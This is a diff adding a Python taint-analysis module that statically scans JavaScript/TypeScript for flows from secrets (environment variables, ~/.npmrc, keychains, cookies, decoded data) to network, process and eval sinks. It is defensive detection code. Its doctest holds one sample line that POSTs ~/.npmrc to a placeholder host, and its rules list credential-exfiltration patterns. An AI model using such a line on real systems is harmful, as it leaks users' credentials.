@@ -1,0 +1,491 @@
+"""Taint propagation through one JavaScript or TypeScript script (parsed, never run).
+
+Sources: ``process.env`` (one variable or all of it), files read with ``fs`` (credential
+stores, ``.env``, the home directory from ``os.homedir()``), keychains, cookies, host
+identity, downloaded data and decoded (``atob``, ``Buffer.from(..., "base64")``) data.
+Taint follows variables, destructuring, template literals, object literals, function
+calls (``JSON.stringify``, ``Buffer.from(...).toString("base64")`` and the like keep their
+arguments' labels), callbacks and promise chains, and functions of the same script
+(parameter-to-sink summaries). Sinks: HTTP clients, beacons, sockets and DNS look-ups,
+``child_process`` and ``eval``/``new Function``/``vm``. Which flow is which finding is
+:mod:`.policy`'s call, as for Python. Flow-insensitive and deliberately simple.
+
+>>> [f.rule_id for f in analyse_javascript("a.js", "fetch('https://x.invalid', "
+...     "{method: 'POST', body: require('fs').readFileSync(os.homedir() + '/.npmrc')})").findings]
+['js-flow.credential-to-network']
+"""
+
+from __future__ import annotations
+
+from ..sensitive import AUTH_FIELD, CREDENTIAL_PATH
+from ..shell_js import scan_command
+from .decoding import try_decode
+from .engine import FlowEngine
+from .js_fold import JsFolder
+from .js_names import (
+    CREDENTIAL_CALLS,
+    DECODERS,
+    DECODING_ENCODINGS,
+    IDENTITY_CALLS,
+    READERS,
+    js_category,
+)
+from .js_parse import parse_script
+from .js_resolve import NameResolver
+from .js_syntax import (
+    Node,
+    call_arguments,
+    chain,
+    node_line,
+    node_text,
+    pattern_names,
+    string_value,
+    unescape,
+)
+from .python_sources import AUTH_PREFIX
+from .recorder import FlowReport
+from .sources import env_variable, path_constant
+from .taint import EMPTY, FunctionSummary, Labels, Scope, SinkSite, Taint, as_data
+
+JS_RULE_IDS = {
+    "credential-to-network": "js-flow.credential-to-network",
+    "identity-to-network": "js-flow.identity-beacon",
+    "home-data-to-network": "js-flow.home-data-to-network",
+    "remote-exec": "js-flow.remote-code-exec",
+    "decoded-exec": "js-flow.decoded-exec",
+    "secret-to-network-command": "js-flow.secret-to-network-command",
+}
+"""Rule ids of JavaScript flows (a named secret sent out and DNS exfiltration share the
+language-neutral ids of :mod:`.policy`, so the destination-aware rule applies alike)."""
+
+_PASSES = 3
+"""Whole-script passes: two to learn functions and later assignments, one to report."""
+_ENV_OBJECTS = frozenset({"process.env", "import.meta.env", "Bun.env"})
+_FUNCTIONS = frozenset(
+    {
+        "function_declaration",
+        "generator_function_declaration",
+        "function_expression",
+        "function",
+        "generator_function",
+        "arrow_function",
+        "method_definition",
+    }
+)
+_SKIPPED = frozenset(
+    {
+        "comment",
+        "import_statement",
+        "type_annotation",
+        "type_arguments",
+        "type_parameters",
+        "type_alias_declaration",
+        "interface_declaration",
+        "enum_declaration",
+        "regex",
+        "number",
+        "property_identifier",
+        "statement_identifier",
+        "hash_bang_line",
+    }
+)
+
+
+def _used_as(key: str, value: Labels) -> Labels:
+    """A secret in ``headers`` or an authentication field authenticates; it is not leaked."""
+    if key.lower() == "headers":
+        return frozenset(t for t in value if t.kind not in ("env-secret", "param"))
+    if AUTH_FIELD.match(key):
+        return frozenset(t for t in value if t.kind != "env-secret")
+    return value
+
+
+def _owner(scope: Scope, name: str) -> Scope:
+    """The scope that declared ``name`` (an assignment updates it there), else ``scope``."""
+    current: Scope | None = scope
+    while current is not None:
+        if name in current.labels:
+            return current
+        current = current.parent
+    return scope
+
+
+class JsFlow(FlowEngine):
+    """Propagate taint through one script: call :meth:`run` once."""
+
+    rule_ids = JS_RULE_IDS
+
+    def __init__(self, path: str, text: str, depth: int = 0) -> None:
+        super().__init__(path, text, depth)
+        self.names = NameResolver()
+        self.folder = JsFolder(self.names)
+        self.summaries: dict[str, FunctionSummary] = {}
+        self.attrs: dict[str, Labels] = {}
+
+    # ---------------------------------------------------------------- driver
+    def run(self) -> FlowReport:
+        root = parse_script(self.text, self.path).root_node
+        try:
+            self.names.learn(root)
+            module = Scope()
+            for number in range(_PASSES):
+                self.recording = number == _PASSES - 1
+                self._eval(root, module)
+        except RecursionError:
+            return FlowReport(self.findings, [], True, "analysis cut (deep nesting)")
+        return FlowReport(self.findings, [], True, summaries=self.summaries)
+
+    # ---------------------------------------------------------------- walking
+    def _eval(self, node: Node | None, scope: Scope) -> Labels:
+        """Labels of an expression; statements are walked and give no labels."""
+        if node is None or node.type in _SKIPPED:
+            return EMPTY
+        handler = _HANDLERS.get(node.type)
+        if handler is not None:
+            return handler(self, node, scope)
+        if node.type in _FUNCTIONS:
+            self._function(node, scope, self._function_name(node))
+            return EMPTY
+        labels: Labels = EMPTY
+        for child in node.named_children:
+            labels |= self._eval(child, scope)
+        return labels
+
+    def _string(self, node: Node, scope: Scope) -> Labels:
+        value = string_value(node)
+        return path_constant(value, node_line(node))[0] if value else EMPTY
+
+    def _template(self, node: Node, scope: Scope) -> Labels:
+        labels: Labels = EMPTY
+        previous = ""
+        for part in node.named_children:
+            if part.type == "string_fragment":
+                previous = unescape(node_text(part))
+                labels |= path_constant(previous, node_line(node))[0]
+            elif part.type == "template_substitution":
+                value = EMPTY
+                for child in part.named_children:
+                    value |= self._eval(child, scope)
+                if AUTH_PREFIX.search(previous):
+                    value = frozenset(t for t in value if t.kind != "env-secret")
+                labels |= value
+                previous = ""
+        return labels
+
+    def _binary(self, node: Node, scope: Scope) -> Labels:
+        left, right = node.child_by_field_name("left"), node.child_by_field_name("right")
+        labels = self._eval(left, scope)
+        value = self._eval(right, scope)
+        if node_text(node.child_by_field_name("operator")) == "+" and AUTH_PREFIX.search(
+            self.folder.fold(left, scope) or ""
+        ):
+            value = frozenset(t for t in value if t.kind != "env-secret")
+        return labels | value
+
+    def _identifier(self, node: Node, scope: Scope) -> Labels:
+        return scope.lookup(node_text(node))
+
+    def _member(self, node: Node, scope: Scope) -> Labels:
+        obj = node.child_by_field_name("object")
+        prop = node_text(node.child_by_field_name("property"))
+        whole = chain(node)
+        if chain(obj) in _ENV_OBJECTS:
+            return env_variable(prop, node_line(node))[0]
+        if whole in _ENV_OBJECTS:
+            return frozenset({Taint("environ", "the whole environment", node_line(node))})
+        if self.names.dotted(node) in CREDENTIAL_CALLS:
+            return frozenset({Taint("credential", whole[:40], node_line(node))})
+        if obj is not None and obj.type == "this":
+            return self.attrs.get(f"this.{prop}", EMPTY)
+        return self._eval(obj, scope)
+
+    def _subscript(self, node: Node, scope: Scope) -> Labels:
+        obj, index = node.child_by_field_name("object"), node.child_by_field_name("index")
+        if chain(obj) in _ENV_OBJECTS:
+            self._eval(index, scope)
+            return env_variable(string_value(index), node_line(node))[0]
+        if chain(node) in _ENV_OBJECTS:
+            return frozenset({Taint("environ", "the whole environment", node_line(node))})
+        return self._eval(obj, scope) | self._eval(index, scope)
+
+    def _object(self, node: Node, scope: Scope) -> Labels:
+        labels: Labels = EMPTY
+        for child in node.named_children:
+            if child.type == "pair":
+                key = string_value(child.child_by_field_name("key")) or node_text(
+                    child.child_by_field_name("key")
+                )
+                value = self._eval(child.child_by_field_name("value"), scope)
+                labels |= _used_as(key, value)
+            elif child.type == "shorthand_property_identifier":
+                labels |= _used_as(node_text(child), scope.lookup(node_text(child)))
+            else:
+                labels |= self._eval(child, scope)
+        return labels
+
+    def _declarator(self, node: Node, scope: Scope) -> Labels:
+        target, value = node.child_by_field_name("name"), node.child_by_field_name("value")
+        if value is None:
+            return EMPTY
+        if value.type in _FUNCTIONS and target is not None:
+            self._function(value, scope, node_text(target))
+            return EMPTY
+        if target is not None and target.type == "object_pattern" and chain(value) in _ENV_OBJECTS:
+            self._env_destructuring(target, scope)
+            return EMPTY
+        labels = self._eval(value, scope)
+        self._bind(target, labels, self.folder.fold(value, scope), scope)
+        return labels
+
+    def _env_destructuring(self, target: Node, scope: Scope) -> None:
+        """``const { API_KEY, HOME: home } = process.env``: one variable per name."""
+        for child in target.named_children:
+            key = child.child_by_field_name("key") if child.type == "pair_pattern" else child
+            if child.type == "rest_pattern":
+                labels = frozenset({Taint("environ", "the whole environment", node_line(child))})
+            else:
+                labels = env_variable(node_text(key), node_line(child))[0]
+            for local in pattern_names(child):
+                scope.labels[local] = labels
+
+    def _assignment(self, node: Node, scope: Scope) -> Labels:
+        left, right = node.child_by_field_name("left"), node.child_by_field_name("right")
+        if right is not None and right.type in _FUNCTIONS:
+            self._function(right, scope, node_text(left).removeprefix("this."))
+            return EMPTY
+        labels = self._eval(right, scope)
+        merge = node.type == "augmented_assignment_expression"
+        if merge:
+            labels |= self._eval(left, scope)
+        owner = scope
+        if left is not None and left.type == "identifier":
+            owner = _owner(scope, node_text(left))
+        self._bind(left, labels, None if merge else self.folder.fold(right, scope), owner, merge)
+        return labels
+
+    def _bind(
+        self,
+        target: Node | None,
+        labels: Labels,
+        folded: str | None,
+        scope: Scope,
+        merge: bool = False,
+    ) -> None:
+        if target is None:
+            return
+        if target.type == "identifier":
+            name = node_text(target)
+            scope.labels[name] = (scope.lookup(name) | labels) if merge else labels
+            if folded is None:
+                scope.folds.pop(name, None)
+            else:
+                scope.folds[name] = folded
+        elif target.type == "member_expression":
+            base = target.child_by_field_name("object")
+            if base is not None and base.type == "this":
+                key = f"this.{node_text(target.child_by_field_name('property'))}"
+                self.attrs[key] = self.attrs.get(key, EMPTY) | labels
+                return
+            while base is not None and base.type in ("member_expression", "subscript_expression"):
+                base = base.child_by_field_name("object")
+            if base is not None and base.type == "identifier":
+                scope.labels[node_text(base)] = scope.lookup(node_text(base)) | labels
+        elif target.type == "subscript_expression":
+            base = target.child_by_field_name("object")
+            if base is not None and base.type == "identifier":
+                scope.labels[node_text(base)] = scope.lookup(node_text(base)) | labels
+        else:
+            for name in pattern_names(target):
+                scope.labels[name] = (scope.lookup(name) | labels) if merge else labels
+
+    def _return(self, node: Node, scope: Scope) -> Labels:
+        labels: Labels = EMPTY
+        for child in node.named_children:
+            labels |= self._eval(child, scope)
+        if scope.summary is not None:
+            scope.summary.returns |= labels
+        return EMPTY
+
+    @staticmethod
+    def _function_name(node: Node) -> str | None:
+        name = node.child_by_field_name("name")
+        return node_text(name) if name is not None else None
+
+    def _function(
+        self, node: Node, scope: Scope, name: str | None, bound: Labels = EMPTY
+    ) -> FunctionSummary:
+        """Walk a function body in its own scope; ``bound`` labels every parameter (a
+        callback's parameters carry what the call hands it)."""
+        params_node = node.child_by_field_name("parameters") or node.child_by_field_name(
+            "parameter"
+        )
+        params: list[str] = []
+        if params_node is not None:
+            if params_node.type == "identifier":
+                params = [node_text(params_node)]
+            else:
+                for child in params_node.named_children:
+                    params.append(",".join(pattern_names(child)))
+        summary = FunctionSummary(params)
+        inner = Scope(parent=scope, summary=summary)
+        for index, names in enumerate(params):
+            for param in names.split(","):
+                if param:
+                    inner.labels[param] = bound | {Taint("param", str(index), node_line(node))}
+        body = node.child_by_field_name("body")
+        if body is not None and body.type == "statement_block":
+            self._eval(body, inner)
+        elif body is not None:
+            summary.returns |= self._eval(body, inner)
+        if name:
+            self.summaries[name] = summary
+        return summary
+
+    # ---------------------------------------------------------------- calls
+    def _call(self, node: Node, scope: Scope) -> Labels:
+        callee = node.child_by_field_name("function") or node.child_by_field_name("constructor")
+        name = self.names.dotted(callee)
+        if self.names.required(node) is not None or name == "require":
+            return EMPTY
+        line = node_line(node)
+        args = call_arguments(node)
+        if name == "import":  # import(url or `data:` source) runs what it loads
+            if args:
+                self._sink(SinkSite("code", "import", line), self._eval(args[0], scope), scope)
+            return EMPTY
+        if name in ("Deno.env.get", "process.env.get"):
+            return env_variable(string_value(args[0]) if args else None, line)[0]
+        arg_labels = [EMPTY if a.type in _FUNCTIONS else self._eval(a, scope) for a in args]
+        receiver = EMPTY
+        if callee is not None and callee.type in ("member_expression", "subscript_expression"):
+            receiver = self._eval(callee.child_by_field_name("object"), scope)
+        elif callee is not None and callee.type != "identifier":
+            receiver = self._eval(callee, scope)
+        everything = receiver.union(*arg_labels)
+        result = self._sources(node, name, args, everything, scope)
+        category = js_category(name)
+        if category == "code" and name in ("setTimeout", "setInterval"):
+            category = None if not args or args[0].type in _FUNCTIONS else "code"
+        if category == "network":
+            self._sink(SinkSite("network", name, line), everything, scope)
+            result = frozenset({Taint("remote", f"data fetched by {name}", line)})
+        elif category == "process":
+            result = self._process(node, name, args, arg_labels, scope, everything)
+        elif category == "code":
+            code = everything if name.endswith("Function") else (arg_labels[0] if args else EMPTY)
+            self._sink(SinkSite("code", name, line), code, scope)
+        summary = self._summary_of(callee)
+        if summary is not None:
+            result = self._apply(summary, name, node, arg_labels, scope)
+        for arg in args:
+            if arg.type in _FUNCTIONS:
+                self._function(arg, scope, None, result)
+        return result
+
+    def _sources(
+        self, node: Node, name: str, args: list[Node], everything: Labels, scope: Scope
+    ) -> Labels:
+        """What a call returns when it reads a source; otherwise its inputs' labels."""
+        line = node_line(node)
+        if name == "os.homedir":
+            return everything | {Taint("home-path", "home directory", line)}
+        if name in IDENTITY_CALLS:
+            return frozenset({Taint("identity", f"{name}()", line)})
+        if name in CREDENTIAL_CALLS:
+            return frozenset({Taint("credential", name, line)})
+        if name in READERS:
+            return as_data(everything)
+        encoding = (
+            self.folder.fold(args[1], scope) if name == "Buffer.from" and len(args) > 1 else None
+        )
+        if name in DECODERS or encoding in DECODING_ENCODINGS:
+            self._remember_payload(node, name, args, encoding, scope)
+            return everything | {Taint("decoded", f"{name}() output", line)}
+        return everything
+
+    def _remember_payload(
+        self, node: Node, name: str, args: list[Node], encoding: str | None, scope: Scope
+    ) -> None:
+        if name == "String.fromCharCode":
+            decoded = self.folder.fold(node, scope)
+        else:
+            raw = self.folder.fold(args[0], scope) if args else None
+            kind = "unhexlify" if encoding == "hex" else "b64decode"
+            decoded = try_decode(kind, raw) if raw and "\x00" not in raw else None
+        if decoded and "\x00" not in decoded:
+            self.payloads[node_line(node)] = decoded
+
+    def _process(
+        self,
+        node: Node,
+        name: str,
+        args: list[Node],
+        arg_labels: list[Labels],
+        scope: Scope,
+        everything: Labels,
+    ) -> Labels:
+        """A process call: its command (and argument list) is the sink, not its options."""
+        line = node_line(node)
+        command = self.folder.fold(args[0], scope) or "\x00" if args else ""
+        labels = arg_labels[0] if args else EMPTY
+        if len(args) > 1 and args[1].type == "array":
+            command = f"{command} {self.folder.fold(args[1], scope) or chr(0)}"
+            labels |= arg_labels[1]
+        self._sink(SinkSite("process", name, line, command), labels, scope)
+        shell_line = command.replace(" -c ", " ", 1)  # spawn("sh", ["-c", script])
+        seen_on_line = set(scan_command(self.lines[line - 1] if line <= len(self.lines) else ""))
+        for hit in scan_command(shell_line.replace("\x00", " X ")):
+            if hit not in seen_on_line:  # the line patterns report what the line shows
+                self._finding(hit.aitech, hit.severity, line, f"command {hit.description}")
+        return as_data(everything) if CREDENTIAL_PATH.search(command) else everything
+
+    def _summary_of(self, callee: Node | None) -> FunctionSummary | None:
+        if callee is None:
+            return None
+        if callee.type == "identifier":
+            return self.summaries.get(node_text(callee))
+        if callee.type == "member_expression":
+            obj = callee.child_by_field_name("object")
+            if obj is not None and obj.type == "this":
+                return self.summaries.get(node_text(callee.child_by_field_name("property")))
+        return None
+
+    def _apply(
+        self,
+        summary: FunctionSummary,
+        name: str,
+        node: Node,
+        arg_labels: list[Labels],
+        scope: Scope,
+    ) -> Labels:
+        return self._call_summary(
+            summary, dict(enumerate(arg_labels)), name, node_line(node), scope
+        )
+
+    def _payload_findings(self, payload: str, site: SinkSite) -> list[tuple[str, str, str]]:
+        if site.category == "code":
+            inner = JsFlow(self.path, payload, self.depth + 1).run().findings
+            return [(f.aitech, f.severity, f.description) for f in inner]
+        return [(h.aitech, h.severity, h.description) for h in scan_command(payload)]
+
+
+_HANDLERS = {
+    "string": JsFlow._string,
+    "template_string": JsFlow._template,
+    "identifier": JsFlow._identifier,
+    "binary_expression": JsFlow._binary,
+    "member_expression": JsFlow._member,
+    "subscript_expression": JsFlow._subscript,
+    "object": JsFlow._object,
+    "variable_declarator": JsFlow._declarator,
+    "assignment_expression": JsFlow._assignment,
+    "augmented_assignment_expression": JsFlow._assignment,
+    "return_statement": JsFlow._return,
+    "call_expression": JsFlow._call,
+    "new_expression": JsFlow._call,
+}
+
+
+def analyse_javascript(path: str, text: str) -> FlowReport:
+    """Source-to-sink findings of one JavaScript/TypeScript script or code fence."""
+    return JsFlow(path, text).run()
